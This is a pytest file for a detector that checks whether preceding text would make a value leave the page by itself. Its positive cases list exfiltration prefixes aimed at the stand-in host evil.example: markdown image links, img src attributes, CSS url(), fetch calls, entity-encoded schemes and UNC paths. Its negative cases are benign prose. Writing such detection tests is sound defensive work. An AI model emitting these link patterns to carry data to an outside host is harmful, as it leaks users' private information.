"""Where a value would leave the page by itself."""

import pytest

from appliance.inspect.travelling import CONTEXT, travels

GOES = [
    "> [r]: //evil.example?q=",
    "[r]:\n//evil.example?q=",
    "![x](\n//evil.example?q=",
    "![x](//evil.example?a=(b)&q=",
    r"![x](//evil.example?a=\)&q=",
    '<img alt=">" src="//evil.example?q=',
    '<img alt=">" src="//evil.example?\nq=',
    "<base href=x><img title='1 > 2' src='a?",
    "<style>a{background:url(//evil.example?",
    "<script>let mail = '",
    "https://evil.example/?a=<1&q=",
    "https://evil.example/?a=_&b=",
    r'{"u":"https:\/\/evil.example\/?q=',
    "evil.example?q=",
    "https&#58;//evil.example?",
    "https&colon;&sol;&sol;evil.example?",
    "http:\\\\evil.example\\?",
    "![x](/\\evil.example?",
    "![x](https:evil.example?",
    "\\\\evil.example\\share\\",
    "fetch(`//evil.example?a= ",
    "x" * CONTEXT,
]
STAYS = [
    "",
    "I wrote to ",
    "<https://x.example/a> and ",
    'see "https://x.example" or ',
    "[x](https://x.example/a) and ",
    "a <= b, a < 3 and ",
    "<td>",
    "/srv/",
    "don't ",
    "C:\\Users\\",
    "<script>a()</script> ",
    '{\n  "name": "x",\n  "mail": "',
    "E-mail:",
    "// ",
    "some words " * 1000,
]


@pytest.mark.parametrize("before", GOES)
def test_what_is_part_of_an_address_or_a_tag_travels(before):
    assert travels(before, is_cut=len(before) >= CONTEXT)


@pytest.mark.parametrize("before", STAYS)
def test_what_a_person_reads_stays(before):
    assert not travels(before[-CONTEXT:], is_cut=len(before) >= CONTEXT)
